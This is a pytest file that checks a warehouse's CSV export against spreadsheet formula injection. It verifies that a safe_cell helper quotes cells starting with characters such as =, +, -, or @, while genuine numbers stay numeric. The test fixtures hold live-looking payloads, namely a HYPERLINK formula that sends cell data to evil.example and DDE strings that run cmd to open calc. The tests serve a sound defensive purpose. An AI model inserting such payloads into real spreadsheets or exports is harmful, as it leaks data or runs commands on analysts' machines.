"""Analyst CSVs (``ogi.pipeline.export_views``): text from documents that a spreadsheet would run as a
formula is neutralised, numbers stay numbers (issue 13, CSV formula injection)."""

from __future__ import annotations

import csv

import pytest
from whkit import generated_reports, item_of, migrated_engine, registry, replace

from ogi.fetch.registry import Organ
from ogi.model import ERROR, FAILED, RuleResult
from ogi.pipeline import export_views
from ogi.warehouse.load import RunInfo, load_batch
from ogi.warehouse.outputs import safe_cell
from ogi.warehouse.registry_sync import sync_registry

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
ORGAN = "@SUM(1+1)*cmd|' /C calc'!A0"
DETAIL = "-2+3+cmd|' /C calc'!A0"
WHERE = "+t3.granted"
#: OWASP's list, written out here (not imported) so the test does not follow the code
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def engine(db_url):
    yield from migrated_engine(db_url)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_safe_cell_rules():
    for bad in ("=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n@x"):
        assert safe_cell(bad) == "'" + bad
    for fine in ("平潭", "a=b", "2021-01-31", "", "'=already"):
        assert safe_cell(fine) == fine
    for number in (-8, -8.5, 0, 3):
        assert safe_cell(number) == number  # numbers are values, never text


def test_exported_csvs_carry_no_formula(engine, db_url, tmp_path, monkeypatch):
    sync_registry(engine, registry([Organ("evil", ORGAN, "d1", "department")]))
    _, canonical = generated_reports(1)[1]  # a v2021 report
    canonical = {**canonical, "title": TITLE, "organ": ORGAN}
    canonical["table3"] = {**canonical["table3"], "granted": {**canonical["table3"]["granted"]}}
    canonical["table3"]["granted"]["natural_person"] = -8  # a legitimate (if odd) negative number
    item = item_of("evil", canonical)
    item = replace(
        item,
        results=(
            RuleResult(
                item.key, "T3-H3", ERROR, FAILED, WHERE, 1.0, 2.0, ("t3.granted.total",), False, DETAIL
            ),
        ),
    )
    load_batch(engine, [item], run=RunInfo("run-csv"))

    monkeypatch.setenv("OGI_WAREHOUSE_URL", db_url)
    written = export_views(tmp_path / "out")
    assert len(written) >= 15

    seen: set[str] = set()
    negative_numbers = 0
    for view, path in written.items():
        with open(path, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        for row in rows[1:]:
            for cell in row:
                if cell.startswith(TRIGGERS) or cell.lstrip(" \n").startswith(TRIGGERS[:4]):
                    # only numbers may start with '-' (or '+'); every such text cell is a number
                    assert _number(cell), (view, cell)
                    negative_numbers += cell.startswith("-")
                if cell.startswith("'"):
                    seen.add(cell[1:])
    # the payloads are there, neutralised, in the files analysts open
    assert {TITLE, ORGAN, DETAIL, WHERE} <= seen
    assert negative_numbers >= 1
    with open(written["v_t3_wide"], encoding="utf-8-sig", newline="") as f:
        granted = [r for r in csv.DictReader(f) if r["organ_id"] == "evil" and r["row_key"] == "granted"]
    assert len(granted) == 1 and float(granted[0]["natural_person"]) == -8  # still the number -8
